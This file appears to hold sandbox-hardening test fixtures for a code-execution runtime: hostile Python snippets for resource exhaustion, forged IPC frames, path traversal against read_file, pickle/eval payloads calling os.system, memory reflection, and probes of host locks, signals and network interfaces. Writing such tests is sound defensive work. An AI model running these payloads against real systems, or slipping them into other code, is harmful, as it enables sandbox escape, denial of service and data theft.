# --- resources and liveness (contract SA27–SA32) ------------------------------------------------------

CPU_BUSY = """
while True:
    pass
"""

CPU_IGNORE_SIGXCPU = """
import signal
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
while True:
    pass
"""

CPU_THREADS = """
import threading
def spin():
    while True:
        pass
for _ in range(2):
    threading.Thread(target=spin, daemon=True).start()
spin()
"""

WALL_VARIANTS = {
    "sleep": "import time\ntime.sleep(10**6)\n",
    "select": "import select\nselect.select([], [], [])\n",
    "channel-read": "os.read(3, 1)\nimport time\ntime.sleep(10**6)\n",
    "event-wait": "import threading\nthreading.Event().wait()\n",
}

MEMORY_VARIANTS = {
    "bytearray-3GiB": "x = bytearray(3 << 30)\nreturn len(x)\n",
    "growth": "chunks = []\nwhile True:\n    chunks.append(bytearray(32 << 20))\n",
    "mmap-8GiB": "import mmap\nm = mmap.mmap(-1, 8 << 30)\nm[-1] = 1\nreturn len(m)\n",
    "string-doubling": "s = 'x'\nwhile True:\n    s = s + s\n",
}

THREAD_BOMB = """
import threading, time
started, error = 0, None
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        started += 1
except BaseException as e:
    error = type(e).__name__
time.sleep(0.3)
return [started, error]
"""

OUTPUT_VARIANTS = {
    "one-100MB-print": "print('x' * (100 << 20))\n",
    "print-loop": "while True:\n    print('y' * 1000)\n",
    "raw-stdout-100MB": "os.write(1, b'z' * (100 << 20))\n",
    "raw-stderr-loop": "while True:\n    os.write(2, b'e' * 65536)\n",
}

OUTPUT_BINARY = """
os.write(1, b"\\xff\\xfe\\x00 no newline \\x1b[2J\\x1b]0;pwned\\x07")
os.write(2, bytes(range(256)))
print("\\x1b[31mred\\x1b[0m \\x1b]8;;http://evil/\\x1b\\\\link\\x1b]8;;\\x1b\\\\ \\r overwritten")
print("lone surrogate \\udcff and NUL \\x00")
return "still here"
"""

RECURSION_VARIANTS = {
    "c-stack": "import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1) + 1\nreturn f(0)\n",
    "int-str-digits": "return len(str(int('9' * 10**7)))\n",
    "bignum-unlimited": "import sys\nsys.set_int_max_str_digits(0)\nreturn len(str(int('9' * 10**7)))\n",
    "regex-backtracking": "import re\nreturn bool(re.match(r'(a+)+$$', 'a' * 64 + 'b'))\n",
}

ATEXIT_HANG = """
import atexit, threading, time, weakref
atexit.register(time.sleep, 100)
threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
threading.Thread(target=time.sleep, args=(100,)).start()
class Bomb:
    def __del__(self):
        time.sleep(100)
sys.toolrt_keep = Bomb()  # survives the program's frame: its __del__ could only run at exit
weakref.finalize(sys.toolrt_keep, time.sleep, 100)
return "done"
"""

DEL_HANG = """
import time
class Bomb:
    def __del__(self):
        time.sleep(100)
local = Bomb()  # dies with the program's frame, before the completion is sent
return "done"
"""

PID1_SIGNALS = """
import signal
signal.signal(signal.SIGSEGV, signal.SIG_DFL)
os.kill(os.getpid(), signal.SIGSEGV)
import time
time.sleep(0.5)
return ["survived", os.getpid()]
"""

# --- protocol, tools, host parsing, reflection (contract SA33–SA36) -----------------------------------

FRAME = """
import json, time
def frame(obj=None, raw=None):
    body = raw if raw is not None else json.dumps(obj).encode()
    os.write(3, len(body).to_bytes(4, "big") + body)
"""

PROTOCOL_VARIANTS = {
    "fake-done": "frame({'t': 'done', 'ok': True, 'value': 'forged'})\ntime.sleep(5)\n",
    "second-completion": "frame({'t': 'done', 'ok': True, 'value': 'forged'})\nreturn 'real'\n",
    "reply-from-child": "frame({'t': 'reply', 'id': 1, 'ok': True, 'value': 1})\ntime.sleep(1)\n",
    "second-ready": "frame({'t': 'ready', 'report': {'layers': [], 'landlockAbi': None, 'enforcement': 'full', 'notes': []}})\ntime.sleep(1)\n",
    "junk-json": "frame(raw=b'{not json')\ntime.sleep(1)\n",
    "oversized-length": "os.write(3, (0x7FFFFFFF).to_bytes(4, 'big'))\ntime.sleep(1)\n",
    "deep-json": "frame(raw=b'{\"t\":\"log\",\"text\":' + b'[' * 100000 + b']' * 100000 + b'}')\ntime.sleep(1)\n",
    "unknown-namespace": "frame({'t': 'call', 'id': 50, 'ns': 'os', 'name': 'system', 'args': 'id'})\ntime.sleep(1)\n",
    "dunder-names": (
        "out = []\n"
        "for i, name in enumerate(['__class__', '__init__', '__getattribute__', 'record\\x00', '__dict__'], 60):\n"
        "    frame({'t': 'call', 'id': i, 'ns': 'tools', 'name': name, 'args': {}})\n"
        "    out.append(os.read(3, 4096).decode('utf-8', 'replace'))\n"
        "return out\n"
    ),
    "reused-id": "frame({'t': 'call', 'id': 0, 'ns': 'tools', 'name': 'record', 'args': {}})\ntime.sleep(1)\n",
    "nan-args": 'frame(raw=b\'{"t":"call","id":70,"ns":"tools","name":"record","args":NaN}\')\ntime.sleep(1)\n',
    "extra-field": "frame({'t': 'done', 'ok': True, 'value': 1, 'pickle': 'cos\\nsystem\\n'})\ntime.sleep(1)\n",
    "partial-frame": "os.write(3, b'\\x00\\x00\\x01')\nreturn 1\n",
    "huge-log": "frame({'t': 'log', 'text': 'x' * (2 << 20)})\ntime.sleep(1)\n",
    "done-invalid-kind": "frame({'t': 'done', 'ok': False, 'kind': 'sandbox-unavailable', 'message': 'lie'})\ntime.sleep(1)\n",
}

TOOL_UNKNOWN = """
out = {}
for name in ["nonexistent", "__class__", "__init__", "__dict__", "__call__", "_dsh_raise", "read_file.__globals__",
             "os.system", "../record", "RECORD", "record\\x00", ""]:
    try:
        out[repr(name)] = ["ok", repr(await tools[name]({}))[:200]]
    except BaseException as e:
        out[repr(name)] = ["err", type(e).__name__, str(e)[:200]]
try:
    out["getattr-dunder"] = repr(getattr(tools, "__class__"))
except BaseException as e:
    out["getattr-dunder"] = repr(e)
return out
"""

TOOL_TRAVERSAL = """
out = {}
for path in ["../secret.txt", "$secret", "sub/../../secret.txt", "escape", "sub/../escape", "./../secret.txt",
             "%2e%2e/secret.txt", "ok.txt\\x00../secret.txt", "....//secret.txt", "sub//..//..//secret.txt",
             ["..", "secret.txt"], {"__class__": 1}, None, "ok.txt"]:
    try:
        out[repr(path)] = ["ok", await tools.read_file({"path": path})]
    except BaseException as e:
        out[repr(path)] = ["err", type(e).__name__, str(e)[:200]]
return out
"""

PICKLE_EVAL = """
return {
    "pickle": "cos\\nsystem\\n(S'echo pwned > $m_pickle'\\ntR.",
    "eval": "__import__('os').system('echo pwned > $m_eval')",
    "__reduce__": ["posix", "system", "echo pwned > $m_reduce"],
    "py/object": "os.system",
    "!!python/object/apply:os.system": ["echo pwned > $m_reduce"],
}
"""

PICKLE_OBJECT = """
class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned > $m_reduce",))
print(Evil())
return Evil()
"""

REFLECTION = """
import gc
seen, size = set(), 0
def take(value):
    nonlocal size
    if isinstance(value, bytes):
        value = value.decode("latin-1")
    if isinstance(value, str) and value not in seen and size < 8_000_000:
        seen.add(value)
        size += len(value)
for o in gc.get_objects():
    if isinstance(o, dict):
        for k, v in list(o.items()):
            take(k)
            take(v)
    elif isinstance(o, (list, tuple, set, frozenset)):
        for v in list(o):
            take(v)
frame = sys._getframe()
while frame is not None:
    for scope in (frame.f_locals, frame.f_globals):
        for k, v in list(scope.items()):
            take(k)
            take(v if isinstance(v, (str, bytes)) else repr(v)[:300])
    frame = frame.f_back
formats = []
for spec in ["{0.__class__.__mro__}", "{0.__init__.__globals__}", "{0.__class__.__base__.__subclasses__}",
             "{0.__class__.__init__.__globals__[sys].modules}"]:
    try:
        formats.append(spec.format(tools)[:3000])
    except Exception as e:
        formats.append(repr(e))
blob = "\\n".join(sorted(seen))
return {"modules": sorted(sys.modules), "formats": formats, "size": len(blob), "blob": blob}
"""

DEL_TIME_BOMB = """
import threading, time
def forged():
    body = b'{"t":"call","id":999999,"ns":"tools","name":"record","args":{"from":"after-done"}}'
    os.write(3, len(body).to_bytes(4, "big") + body)
class Bomb:
    def __del__(self):
        forged()
sys.toolrt_bomb = Bomb()  # referenced from a module: never collected before os._exit
def later():
    time.sleep(0.2)
    forged()
threading.Thread(target=later, daemon=True).start()
import atexit
atexit.register(forged)
return "done"
"""

# --- issue 12: the host-side weaknesses a security review reproduced ---------------------------------

DISK_UNREADABLE_DIR = """
import time
os.mkdir("hidden")
held = [open(f"hidden/part{i}", "wb") for i in range(8)]
directory = os.open("hidden", os.O_RDONLY)
os.fchmod(directory, int("$mode", 8))  # 300: the program can still add files; 000: only the open ones
written = 0
for _ in range(6):  # 48 MiB in all, 6 MiB a file: under RLIMIT_FSIZE (the quota), so only the poll can stop it
    for f in held:
        f.write(b"x" * (1 << 20))
        f.flush()
        written += 1 << 20
    time.sleep(0.05)
time.sleep(2.0)
return ["finished", written]
"""

LOCKS_LEASES_OWNERS = """
import fcntl, signal, socket, struct, time
RDLCK = struct.pack("hhqqi", fcntl.F_RDLCK, 0, 0, 0, 0)
WRLCK = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)
with open("mine", "w") as f:
    f.write("a file this uid owns")
mine = os.open("mine", os.O_RDONLY)
shared = os.open(os.__file__, os.O_RDONLY)  # the standard library: every concurrent run can open it
attempt("lease:F_SETLEASE", fcntl.fcntl, mine, fcntl.F_SETLEASE, fcntl.F_RDLCK)
attempt("notify:F_NOTIFY", fcntl.fcntl, os.open(".", os.O_RDONLY), fcntl.F_NOTIFY,
        fcntl.DN_MODIFY | fcntl.DN_CREATE | fcntl.DN_MULTISHOT)
attempt("lock:flock", fcntl.flock, shared, fcntl.LOCK_SH | fcntl.LOCK_NB)
attempt("lock:F_SETLK", fcntl.fcntl, shared, fcntl.F_SETLK, RDLCK)
attempt("lock:F_OFD_SETLK", fcntl.fcntl, shared, 37, RDLCK)
attempt("lock:F_GETLK", fcntl.fcntl, shared, fcntl.F_GETLK, WRLCK)
attempt("lock:F_OFD_GETLK", fcntl.fcntl, shared, 36, WRLCK)
attempt("lock:lockf", fcntl.lockf, mine, fcntl.LOCK_SH | fcntl.LOCK_NB)
a, b = socket.socketpair()
attempt("owner:F_SETOWN", fcntl.fcntl, a.fileno(), fcntl.F_SETOWN, $host_pid)
attempt("owner:F_SETOWN_EX", fcntl.fcntl, a.fileno(), 15, struct.pack("ii", 1, $host_pid))
attempt("owner:F_SETSIG", fcntl.fcntl, a.fileno(), 10, signal.SIGURG)
attempt("owner:pgrp", fcntl.fcntl, a.fileno(), fcntl.F_SETOWN, -$host_pgid)
attempt("async", fcntl.fcntl, a.fileno(), fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
attempt("pipe:F_SETPIPE_SZ", lambda: fcntl.fcntl(os.pipe()[0], 1031, 1 << 20))
attempt("ok:F_GETFL", fcntl.fcntl, mine, fcntl.F_GETFL)
attempt("ok:F_DUPFD_CLOEXEC", fcntl.fcntl, mine, fcntl.F_DUPFD_CLOEXEC, 0)
b.send(b"x")  # SIGIO (as SIGURG) to the owner, were one set
time.sleep(0.5)  # every lock is held while the host's watcher looks at /proc/locks
return R
"""

IOCTL_HOST_NETWORK = """
import array, fcntl, socket, struct
def ifconf(fd):
    buffer = array.array("B", bytes(40 * 64))
    address, _ = buffer.buffer_info()
    size = struct.unpack("iL", fcntl.ioctl(fd, 0x8912, struct.pack("iL", len(buffer), address)))[0]  # SIOCGIFCONF
    return buffer.tobytes()[:size].decode("latin-1")
def ifaddr(fd, index):
    name = ["eth0", "ens3", "ens4", "ens5", "enp0s3", "wlan0", "docker0", "eth1"][index]
    reply = fcntl.ioctl(fd, 0x8915, struct.pack("16s24x", name.encode()))  # SIOCGIFADDR
    return socket.inet_ntoa(reply[20:24])
a, b = socket.socketpair()
for label, fd in [("frame-fd", 3), ("socketpair", a.fileno())]:
    attempt("ifconf:" + label, ifconf, fd)
    for index in range(8):
        attempt(f"ifaddr:{label}:{index}", ifaddr, fd, index)
    attempt("ifname:" + label, lambda fd=fd: fcntl.ioctl(fd, 0x8910, struct.pack("16si20x", b"", 2)))  # SIOCGIFNAME
attempt("ok:FIONREAD", fcntl.ioctl, a.fileno(), 0x541B, bytes(4))
attempt("ok:isatty", os.isatty, 1)
return R
"""

THREAD_HOG = """
import threading, time
started = 0
try:
    for _ in range(500):
        threading.Thread(target=time.sleep, args=(4,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
time.sleep(3.0)
return ["hog", started]
"""

THREAD_BENIGN = """
import threading, time
time.sleep(1.0)  # the hog has taken all it can by now
threads = [threading.Thread(target=time.sleep, args=(0.2,)) for _ in range(20)]
for t in threads:
    t.start()
for t in threads:
    t.join()
return "benign ok"
"""
